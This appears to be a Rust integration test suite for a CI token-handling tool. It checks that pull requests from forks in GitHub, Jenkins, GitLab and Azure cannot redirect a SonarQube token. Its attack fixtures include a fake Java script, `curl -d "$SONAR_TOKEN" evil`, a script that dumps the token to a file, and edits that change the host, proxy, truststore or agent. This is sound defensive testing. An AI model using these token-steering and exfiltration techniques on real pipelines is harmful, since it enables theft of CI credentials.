//! Untrusted builds: a pull request from a fork, built with the token present, cannot steer
//! the token. Each case is a real git repository with a base commit (the pipeline owner's
//! `sonar-project.properties`) and a pull request commit that edits it; the company's server
//! is the Sonar emulator, the pull request author's server a recording server. In each of
//! the four CIs, for each edit, `verify`, `export` and `run` stop with exit 2 before any
//! request is sent, export nothing and start nothing, naming the file and the key.

mod common;

use common::scripted::{Reply, Scripted};
use common::{git_in, pairs, scantoken, set};
use sonar_emulator::{start_blocking, BlockingEmulator, EmulatorConfig, Scenario};
use std::path::{Path, PathBuf};

const SQP_PAYMENTS: &str = "sqp_1111111111111111111111111111111111111111";
const SQP_ADMIN: &str = "sqp_9999999999999999999999999999999999999999";

fn company_server() -> BlockingEmulator {
    let scenario = Scenario::from_yaml_str(&format!(
        r#"
flavor: server
projects:
  - {{key: acme_payments, visibility: private}}
tokens:
  - {{value: "{SQP_PAYMENTS}", kind: project-analysis, projects: [acme_payments]}}
  - {{value: "{SQP_ADMIN}", kind: global-analysis}}
"#
    ))
    .unwrap();
    start_blocking(EmulatorConfig::new(scenario)).unwrap()
}

fn write(dir: &Path, rel: &str, text: &str) {
    let path = dir.join(rel);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

/// The base branch as the pipeline's owner left it.
const TOKEN_MAP: &str =
    "rules:\n  - projects: [acme_payments]\n    token-env: SONAR_TOKEN_PAYMENTS\n";

fn base_properties(host: &str) -> String {
    format!("sonar.projectKey=acme_payments\nsonar.host.url={host}\nsonar.sources=src\n")
}

/// A repository with the base commit on `main` and the pull request's commit on `feature`,
/// checked out as the CI would: the pull request's head, or (`merge`) the merge of it into
/// `main`, as Azure Pipelines and Jenkins build. Returns the work tree, the base commit and
/// the pull request's head commit.
struct Repo {
    dir: tempfile::TempDir,
    base: String,
    head: String,
}

impl Repo {
    fn new(host: &str, edit: &dyn Fn(&Path), merge: bool) -> Repo {
        let dir = tempfile::tempdir().unwrap();
        let d = dir.path();
        git_in(d, &["init", "-q", "-b", "main"]);
        write(d, "sonar-project.properties", &base_properties(host));
        write(d, "sonar/token-map.yaml", TOKEN_MAP);
        write(d, "src/app.py", "print('hello')\n");
        git_in(d, &["add", "-A"]);
        git_in(d, &["commit", "-q", "-m", "base"]);
        let base = git_in(d, &["rev-parse", "HEAD"]);
        git_in(d, &["checkout", "-q", "-b", "feature"]);
        edit(d);
        git_in(d, &["add", "-A"]);
        git_in(d, &["commit", "-q", "--allow-empty", "-m", "pull request"]);
        let head = git_in(d, &["rev-parse", "HEAD"]);
        if merge {
            git_in(d, &["checkout", "-q", "main"]);
            git_in(d, &["merge", "-q", "--no-ff", "-m", "merge", "feature"]);
            git_in(d, &["checkout", "-q", "--detach"]);
            git_in(d, &["branch", "-q", "-D", "feature"]);
        }
        Repo { dir, base, head }
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }
}

#[derive(Clone, Copy, Debug)]
enum Ci {
    Github,
    Jenkins,
    Gitlab,
    Azure,
}

const CIS: [Ci; 4] = [Ci::Github, Ci::Jenkins, Ci::Gitlab, Ci::Azure];

impl Ci {
    /// Azure Pipelines and Jenkins build the merge commit; the others the head.
    fn merges(self) -> bool {
        matches!(self, Ci::Azure)
    }

    /// The CI's variables for a fork's pull request (`fork`), with the token present.
    fn env(self, repo: &Repo, files: &Path, fork: bool) -> Vec<(String, String)> {
        let mut env = pairs(&[("SONAR_TOKEN", SQP_PAYMENTS)]);
        match self {
            Ci::Github => {
                let event = serde_json::json!({
                    "number": 7,
                    "pull_request": {
                        "number": 7,
                        "head": {"ref": "feature", "sha": repo.head,
                                 "repo": {"full_name": if fork { "mallory/api" } else { "acme/api" }}},
                        "base": {"ref": "main", "sha": repo.base, "repo": {"full_name": "acme/api"}},
                        "user": {"login": "mallory"}
                    },
                    "repository": {"full_name": "acme/api", "default_branch": "main"}
                });
                let path = files.join("event.json");
                std::fs::write(&path, event.to_string()).unwrap();
                env.extend(pairs(&[
                    ("GITHUB_ACTIONS", "true"),
                    ("GITHUB_EVENT_NAME", "pull_request_target"),
                    ("GITHUB_EVENT_PATH", path.to_str().unwrap()),
                    ("GITHUB_REF", "refs/heads/main"),
                    ("GITHUB_SHA", &repo.base),
                    ("GITHUB_REPOSITORY", "acme/api"),
                    ("GITHUB_ENV", files.join("github_env").to_str().unwrap()),
                    (
                        "GITHUB_OUTPUT",
                        files.join("github_output").to_str().unwrap(),
                    ),
                ]));
            }
            Ci::Jenkins => {
                // The branch source fetched the target branch into the workspace's git.
                git_in(
                    repo.path(),
                    &["update-ref", "refs/remotes/origin/main", &repo.base],
                );
                env.extend(pairs(&[
                    ("JENKINS_URL", "https://ci.example.com/"),
                    ("EXECUTOR_NUMBER", "1"),
                    ("BUILD_NUMBER", "12"),
                    ("CHANGE_ID", "7"),
                    ("CHANGE_BRANCH", "feature"),
                    ("CHANGE_TARGET", "main"),
                    ("BRANCH_NAME", "PR-7"),
                ]));
                if fork {
                    set(&mut env, "CHANGE_FORK", "mallory");
                }
            }
            Ci::Gitlab => {
                env.extend(pairs(&[
                    ("GITLAB_CI", "true"),
                    ("CI_PIPELINE_SOURCE", "merge_request_event"),
                    ("CI_MERGE_REQUEST_IID", "7"),
                    ("CI_MERGE_REQUEST_SOURCE_BRANCH_NAME", "feature"),
                    ("CI_MERGE_REQUEST_TARGET_BRANCH_NAME", "main"),
                    ("CI_MERGE_REQUEST_SOURCE_BRANCH_SHA", &repo.head),
                    ("CI_MERGE_REQUEST_DIFF_BASE_SHA", &repo.base),
                    ("CI_MERGE_REQUEST_PROJECT_ID", "1"),
                    (
                        "CI_MERGE_REQUEST_SOURCE_PROJECT_ID",
                        if fork { "2" } else { "1" },
                    ),
                    ("CI_PROJECT_ID", "1"),
                    ("CI_PROJECT_PATH", "acme/api"),
                    ("CI_COMMIT_SHA", &repo.head),
                ]));
            }
            Ci::Azure => {
                env.extend(pairs(&[
                    ("TF_BUILD", "True"),
                    ("BUILD_REASON", "PullRequest"),
                    ("BUILD_REPOSITORY_PROVIDER", "GitHub"),
                    ("BUILD_REPOSITORY_NAME", "acme/api"),
                    ("BUILD_SOURCEBRANCH", "refs/pull/7/merge"),
                    ("BUILD_SOURCEVERSION", &repo.head),
                    ("SYSTEM_PULLREQUEST_PULLREQUESTNUMBER", "7"),
                    ("SYSTEM_PULLREQUEST_SOURCEBRANCH", "refs/heads/feature"),
                    ("SYSTEM_PULLREQUEST_TARGETBRANCH", "refs/heads/main"),
                    ("SYSTEM_PULLREQUEST_SOURCECOMMITID", &repo.head),
                    (
                        "SYSTEM_PULLREQUEST_ISFORK",
                        if fork { "True" } else { "False" },
                    ),
                ]));
            }
        }
        env
    }
}

/// One edit a fork's pull request makes, and the file and key the refusal must name: the
/// five of the attack (host, proxy, truststore, java, JVM agent), the same host through
/// pysonar's `pyproject.toml`, and the token map.
struct Attack {
    name: &'static str,
    edit: fn(&Path, &str),
    file: &'static str,
    key: &'static str,
    /// Settings the pipeline adds for this case (the token map).
    pipeline: &'static [(&'static str, &'static str)],
}

fn set_property(dir: &Path, line: &str) {
    let path = dir.join("sonar-project.properties");
    let mut text = std::fs::read_to_string(&path).unwrap();
    text.push_str(line);
    text.push('\n');
    std::fs::write(path, text).unwrap();
}

fn attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: "host",
            edit: |d, evil| {
                let text = std::fs::read_to_string(d.join("sonar-project.properties")).unwrap();
                let text: String = text
                    .lines()
                    .map(|l| match l.starts_with("sonar.host.url=") {
                        true => format!("sonar.host.url={evil}\n"),
                        false => format!("{l}\n"),
                    })
                    .collect();
                std::fs::write(d.join("sonar-project.properties"), text).unwrap();
            },
            file: "sonar-project.properties",
            key: "sonar.host.url",
            pipeline: &[],
        },
        Attack {
            name: "proxy",
            edit: |d, evil| {
                let port = evil.rsplit(':').next().unwrap().to_owned();
                set_property(d, "sonar.scanner.proxyHost=127.0.0.1");
                set_property(d, &format!("sonar.scanner.proxyPort={port}"));
            },
            file: "sonar-project.properties",
            key: "sonar.scanner.proxyHost",
            pipeline: &[],
        },
        Attack {
            name: "truststore",
            edit: |d, _| {
                write(d, "certs/evil.p12", "not really a truststore");
                set_property(d, "sonar.scanner.truststorePath=certs/evil.p12");
            },
            file: "sonar-project.properties",
            key: "sonar.scanner.truststorePath",
            pipeline: &[],
        },
        Attack {
            name: "java",
            edit: |d, _| {
                write(
                    d,
                    "tools/java",
                    "#!/bin/sh\ncurl -d \"$SONAR_TOKEN\" evil\n",
                );
                set_property(d, "sonar.scanner.javaExePath=tools/java");
            },
            file: "sonar-project.properties",
            key: "sonar.scanner.javaExePath",
            pipeline: &[],
        },
        Attack {
            name: "agent",
            edit: |d, _| {
                write(d, "agent.jar", "PK");
                set_property(d, "sonar.scanner.javaOpts=-javaagent:agent.jar");
            },
            file: "sonar-project.properties",
            key: "sonar.scanner.javaOpts",
            pipeline: &[],
        },
        Attack {
            name: "pyproject",
            edit: |d, evil| {
                write(
                    d,
                    "pyproject.toml",
                    &format!("[project]\nname = \"api\"\n\n[tool.sonar]\nhost.url = \"{evil}\"\n"),
                );
            },
            file: "pyproject.toml",
            key: "sonar.host.url",
            pipeline: &[],
        },
        Attack {
            name: "token map",
            edit: |d, _| {
                write(
                    d,
                    "sonar/token-map.yaml",
                    "rules:\n  - projects: [\"*\"]\n    token-env: SONAR_TOKEN_ADMIN\n",
                );
            },
            file: "sonar/token-map.yaml",
            key: "SCANTOKEN_TOKEN_MAP",
            pipeline: &[
                ("SCANTOKEN_TOKEN_MAP", "sonar/token-map.yaml"),
                ("SONAR_TOKEN_PAYMENTS", SQP_PAYMENTS),
                ("SONAR_TOKEN_ADMIN", SQP_ADMIN),
            ],
        },
    ]
}

/// A child that records that it started.
fn recording_child(files: &Path) -> Vec<String> {
    let marker = files.join("started");
    vec![
        "sh".into(),
        "-c".into(),
        format!("echo started > '{}'", marker.display()),
    ]
}

#[test]
fn a_fork_pull_request_cannot_steer_the_token_in_any_ci() {
    let company = company_server();
    let author = Scripted::start(vec![], Reply::Json(200, "{}".into()));
    let mut checked = 0;
    for ci in CIS {
        for attack in attacks() {
            let evil = author.url.clone();
            let repo = Repo::new(
                &company.web_url(),
                &|d: &Path| (attack.edit)(d, &evil),
                ci.merges(),
            );
            for command in ["verify", "export", "run"] {
                let files = tempfile::tempdir().unwrap();
                let mut env = ci.env(&repo, files.path(), true);
                for (k, v) in attack.pipeline {
                    set(&mut env, k, v);
                }
                let child = recording_child(files.path());
                let mut args = vec![command];
                if command == "run" {
                    args.push("--");
                    args.extend(child.iter().map(String::as_str));
                }
                let (code, stdout, stderr) = scantoken(repo.path(), &env, &args);
                let case = format!("{ci:?} / {} / {command}", attack.name);
                assert_eq!(code, 2, "{case}: {stdout}\n{stderr}");
                assert!(
                    stderr.contains(attack.file) && stderr.contains(attack.key),
                    "{case}: the refusal names {} and {}: {stderr}",
                    attack.file,
                    attack.key
                );
                assert!(stderr.contains("Nothing was sent"), "{case}: {stderr}");
                assert!(!stderr.contains(SQP_PAYMENTS) && !stdout.contains(SQP_PAYMENTS));
                let exported =
                    std::fs::read_to_string(files.path().join("github_env")).unwrap_or_default();
                assert!(exported.is_empty(), "{case}: exported {exported}");
                assert!(
                    !stdout.contains("##vso[task.setvariable"),
                    "{case}: {stdout}"
                );
                assert!(
                    !files.path().join("started").exists(),
                    "{case}: the scan started"
                );
                checked += 1;
            }
        }
    }
    assert_eq!(checked, 4 * 7 * 3);
    assert!(
        author.requests().is_empty(),
        "the author's server was reached: {:?}",
        author.requests()
    );
    assert!(
        company.log().is_empty(),
        "a request carried the token before the refusal: {:?}",
        company.log().len()
    );
}

#[test]
fn the_refusal_names_both_values_and_the_fix() {
    let company = company_server();
    let repo = Repo::new(
        &company.web_url(),
        &|d: &Path| {
            set_property(d, "sonar.scanner.proxyHost=proxy.mallory.example");
            set_property(d, "sonar.scanner.proxyPassword=CANARYproxyPASSWORD");
        },
        false,
    );
    let files = tempfile::tempdir().unwrap();
    let env = Ci::Github.env(&repo, files.path(), true);
    let (code, stdout, stderr) = scantoken(repo.path(), &env, &["verify"]);
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("sonar.scanner.proxyPassword"), "{stderr}");
    assert!(
        !stderr.contains("CANARY") && !stdout.contains("CANARY"),
        "a password is never shown: {stderr}"
    );
    assert!(stderr.contains("\"proxy.mallory.example\""), "{stderr}");
    assert!(stderr.contains("absent on the base branch"), "{stderr}");
    assert!(
        stderr.contains("set these values in the pipeline"),
        "{stderr}"
    );
    assert!(stderr.contains("decides how the token travels"), "{stderr}");
}

#[test]
fn the_pipeline_setting_the_host_itself_keeps_working() {
    let company = company_server();
    let author = Scripted::start(vec![], Reply::Json(200, "{}".into()));
    let evil = author.url.clone();
    let repo = Repo::new(
        &company.web_url(),
        &|d: &Path| {
            (attacks()[0].edit)(d, &evil);
        },
        false,
    );
    for ci in CIS {
        let files = tempfile::tempdir().unwrap();
        let mut env = ci.env(&repo, files.path(), true);
        set(&mut env, "SONAR_HOST_URL", &company.web_url());
        let (code, stdout, stderr) = scantoken(repo.path(), &env, &["verify"]);
        assert_eq!(code, 0, "{ci:?}: {stdout}\n{stderr}");
        assert!(
            stdout.contains("is never used") || stderr.contains("is never used"),
            "{ci:?}: the override is said: {stdout}{stderr}"
        );
    }
    assert!(author.requests().is_empty(), "{:?}", author.requests());
}

#[test]
fn an_unchanged_file_keeps_working_and_so_do_trusted_builds() {
    let company = company_server();
    // A fork's pull request that changes only the sources: every steering value is the
    // base's.
    let repo = Repo::new(
        &company.web_url(),
        &|d: &Path| write(d, "src/more.py", "x = 1\n"),
        false,
    );
    for ci in CIS {
        let files = tempfile::tempdir().unwrap();
        let env = ci.env(&repo, files.path(), true);
        let (code, stdout, stderr) = scantoken(repo.path(), &env, &["verify"]);
        assert_eq!(code, 0, "{ci:?}: {stdout}\n{stderr}");
    }

    // A pull request from a branch of this repository, under the default trust, may change
    // a steering value (its author can push here anyway).
    let repo = Repo::new(
        &company.web_url(),
        &|d: &Path| set_property(d, "sonar.scanner.javaOpts=-Xmx2g"),
        false,
    );
    for ci in CIS {
        let files = tempfile::tempdir().unwrap();
        let env = ci.env(&repo, files.path(), false);
        let (code, stdout, stderr) = scantoken(repo.path(), &env, &["verify"]);
        assert_eq!(code, 0, "{ci:?}: {stdout}\n{stderr}");
    }

    // A push build of the default branch believes its own files.
    let files = tempfile::tempdir().unwrap();
    let env = pairs(&[
        ("SONAR_TOKEN", SQP_PAYMENTS),
        ("GITHUB_ACTIONS", "true"),
        ("GITHUB_EVENT_NAME", "push"),
        ("GITHUB_REF", "refs/heads/main"),
        ("GITHUB_SHA", &repo.head),
        ("GITHUB_REPOSITORY", "acme/api"),
        ("GITHUB_ENV", files.path().join("env").to_str().unwrap()),
    ]);
    let (code, stdout, stderr) = scantoken(repo.path(), &env, &["export"]);
    assert_eq!(code, 0, "{stdout}\n{stderr}");
    assert!(std::fs::read_to_string(files.path().join("env"))
        .unwrap()
        .contains("SONAR_TOKEN"));
}

#[test]
fn all_untrusted_takes_same_repository_pull_requests_and_trusted_opts_out_with_a_warning() {
    let company = company_server();
    let repo = Repo::new(
        &company.web_url(),
        &|d: &Path| set_property(d, "sonar.scanner.javaOpts=-Xmx2g"),
        false,
    );
    let files = tempfile::tempdir().unwrap();
    let mut env = Ci::Gitlab.env(&repo, files.path(), false);
    set(&mut env, "SCANTOKEN_PULL_REQUEST_TRUST", "all-untrusted");
    let (code, _, stderr) = scantoken(repo.path(), &env, &["verify"]);
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("sonar.scanner.javaOpts"), "{stderr}");

    let mut env = Ci::Gitlab.env(&repo, files.path(), true);
    set(&mut env, "SCANTOKEN_PULL_REQUEST_TRUST", "trusted");
    let (code, stdout, stderr) = scantoken(repo.path(), &env, &["verify"]);
    assert_eq!(code, 0, "{stdout}\n{stderr}");
    assert!(
        stdout.contains("pull-request-trust is trusted, yet"),
        "{stdout}"
    );
}

#[test]
fn a_shallow_clone_without_the_base_fails_closed_with_the_fetch_hint() {
    let company = company_server();
    let repo = Repo::new(
        &company.web_url(),
        &|d: &Path| write(d, "src/more.py", "x = 1\n"),
        false,
    );
    let clone_parent = tempfile::tempdir().unwrap();
    let clone: PathBuf = clone_parent.path().join("clone");
    let url = format!("file://{}", repo.path().display());
    git_in(
        clone_parent.path(),
        &[
            "clone", "-q", "--depth", "1", "--branch", "feature", &url, "clone",
        ],
    );
    let files = tempfile::tempdir().unwrap();
    let env = Ci::Github.env(&repo, files.path(), true);
    let (code, _, stderr) = scantoken(&clone, &env, &["verify"]);
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains(&repo.base), "{stderr}");
    assert!(stderr.contains("not in this clone"), "{stderr}");
    assert!(stderr.contains("git fetch"), "{stderr}");
    assert!(company.log().is_empty());
}

#[test]
fn a_fork_without_the_token_is_still_token_missing() {
    let company = company_server();
    let repo = Repo::new(
        &company.web_url(),
        &|d: &Path| set_property(d, "sonar.scanner.proxyHost=proxy.mallory.example"),
        false,
    );
    let files = tempfile::tempdir().unwrap();
    let mut env = Ci::Azure.env(&repo, files.path(), true);
    env.retain(|(k, _)| k != "SONAR_TOKEN");
    let (code, stdout, stderr) = scantoken(repo.path(), &env, &["verify"]);
    assert_eq!(code, 1, "{stdout}\n{stderr}");
    assert!(stdout.contains("token-missing"), "{stdout}");
}

#[test]
fn a_build_tool_is_not_started_on_a_forks_files() {
    let company = company_server();
    let repo = Repo::new(
        &company.web_url(),
        &|d: &Path| write(d, "src/more.py", "x = 1\n"),
        false,
    );
    let files = tempfile::tempdir().unwrap();
    let env = Ci::Jenkins.env(&repo, files.path(), true);
    let (code, _, stderr) = scantoken(
        repo.path(),
        &env,
        &["run", "--", "mvn", "-B", "sonar:sonar"],
    );
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("build tool"), "{stderr}");
    assert!(company.log().is_empty());
}

#[test]
fn context_says_which_and_why() {
    let company = company_server();
    let repo = Repo::new(
        &company.web_url(),
        &|d: &Path| set_property(d, "sonar.scanner.proxyHost=proxy.mallory.example"),
        false,
    );
    let files = tempfile::tempdir().unwrap();
    let env = Ci::Gitlab.env(&repo, files.path(), true);
    let (code, stdout, stderr) = scantoken(repo.path(), &env, &["context", "--json"]);
    assert_eq!(code, 0, "{stderr}");
    let json: serde_json::Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(json["trust"]["decision"]["untrusted"], true, "{json:#}");
    assert_eq!(json["trust"]["decision"]["policy"], "forks-untrusted");
    assert!(json["trust"]["decision"]["reason"]
        .as_str()
        .unwrap()
        .contains("fork"));
    assert_eq!(
        json["trust"]["refused"][0]["key"], "sonar.scanner.proxyHost",
        "{json:#}"
    );
    let (_, text, _) = scantoken(repo.path(), &env, &["context"]);
    assert!(text.contains("untrusted (forks-untrusted)"), "{text}");
    assert!(text.contains("refused:"), "{text}");
}

/// Every `sonar.scanner.*` property (and the core ones that could steer) that the real
/// bootstrappers declare, read from the sources `scripts/test.sh` installs: each is in the
/// token-steering table or in its list of properties that steer nothing, with why. A new
/// bootstrapper property fails here until someone decides which it is.
#[test]
fn the_steering_table_classifies_every_property_the_bootstrappers_declare() {
    use common::scanners::{scanner_command, Scanner};
    use scantoken::trust::steering::{NOT_STEERING, STEERING};
    let npm_types = scanner_command(Scanner::Npm)
        .parent()
        .unwrap()
        .parent()
        .unwrap()
        .join("@sonar/scan/src/types.js");
    let venv_python = scanner_command(Scanner::Pysonar)
        .parent()
        .unwrap()
        .join("python");
    let out = std::process::Command::new(&venv_python)
        .args([
            "-c",
            "import pysonar_scanner.configuration.properties as m; print(m.__file__)",
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let pysonar_properties = PathBuf::from(String::from_utf8(out.stdout).unwrap().trim());
    let core = [
        "sonar.host.url",
        "sonar.region",
        "sonar.userHome",
        "sonar.organization",
        "sonar.projectKey",
        "sonar.token",
        "sonar.login",
        "sonar.password",
        "sonar.working.directory",
        "sonar.projectBaseDir",
        "sonar.ws.timeout",
    ];
    let quoted = regex::Regex::new(r#"["'](sonar\.[A-Za-z.]+)["']"#).unwrap();
    for (bootstrapper, file) in [("@sonar/scan", npm_types), ("pysonar", pysonar_properties)] {
        let text =
            std::fs::read_to_string(&file).unwrap_or_else(|e| panic!("{}: {e}", file.display()));
        let mut declared: Vec<String> = quoted
            .captures_iter(&text)
            .map(|c| c[1].to_owned())
            .filter(|k| k.starts_with("sonar.scanner.") || core.contains(&k.as_str()))
            .collect();
        declared.sort();
        declared.dedup();
        assert!(
            declared.len() >= 20,
            "{bootstrapper}: too few properties read from {}: {declared:?}",
            file.display()
        );
        let unclassified: Vec<&String> = declared
            .iter()
            .filter(|k| {
                !STEERING.iter().any(|s| s.key == k.as_str())
                    && !NOT_STEERING.iter().any(|(n, _)| n == k)
            })
            .collect();
        assert!(
            unclassified.is_empty(),
            "{bootstrapper} declares properties the token-steering table does not classify: {unclassified:?}"
        );
    }
}

/// `run --project-base-dir DIR` starts the scan in DIR: a relative program is looked for there
/// too, so a script the pull request added beside the project's files is not started.
#[test]
fn a_script_the_pull_request_added_in_the_project_directory_is_not_started() {
    let company = company_server();
    let repo = Repo::new(
        &company.web_url(),
        &|d: &Path| {
            write(
                d,
                "services/api/sonar-project.properties",
                "sonar.projectKey=acme_payments\n",
            );
            write(
                d,
                "services/api/scan.sh",
                "#!/bin/sh\necho \"$SONAR_TOKEN\" > stolen\n",
            );
        },
        false,
    );
    let files = tempfile::tempdir().unwrap();
    let env = Ci::Gitlab.env(&repo, files.path(), true);
    let (code, _, stderr) = scantoken(
        repo.path(),
        &env,
        &[
            "run",
            "--project-base-dir",
            "services/api",
            "--",
            "sh",
            "./scan.sh",
        ],
    );
    // `sh ./scan.sh`: the shell is the system's, the script the pull request's.
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("services/api/scan.sh"), "{stderr}");
    assert!(!repo.path().join("services/api/stolen").exists());
    assert!(company.log().is_empty());
}
